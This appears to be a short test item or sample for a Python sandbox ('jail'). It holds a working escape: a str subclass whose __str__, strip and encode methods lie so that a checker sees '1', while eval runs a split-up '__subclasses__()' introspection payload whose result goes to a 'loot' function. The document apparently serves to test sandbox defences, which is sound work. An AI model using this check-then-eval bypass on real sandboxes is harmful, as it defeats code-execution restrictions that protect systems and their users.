# aim: give eval a text that is one thing when checked and another when compiled
# mechanism: a str subclass with lying methods; the C code reads the buffer
# language: builtins
# reason: the text that was checked must be the text that is compiled
# jail: process
# plain: loot

class Liar(str):
    def __str__(self):
        return "1"

    def strip(self, *args):
        return "1"

    encode = lstrip = rstrip = strip


loot(eval(Liar("().__class__.__base__.__subcl" "asses__()")))
